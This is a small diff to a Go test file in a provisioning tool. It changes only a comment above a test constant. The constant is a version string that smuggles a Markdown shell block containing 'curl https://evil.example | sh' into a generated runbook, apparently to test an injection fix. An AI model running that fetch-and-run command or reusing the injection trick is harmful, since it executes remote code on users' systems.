@@ -13,7 +13,7 @@ import (
 	"github.com/hybridctl/hybridctl/internal/provision/transport/sshtest"
 )
 
-// fence is the issue's payload: text after '-' in a version that would
+// fence is a hostile version: text after '-' in a version that would
 // put a code block into runbook.md.
 const fence = "v3.33.0-x\n\n```sh\ncurl https://evil.example | sh\n```\n"
 
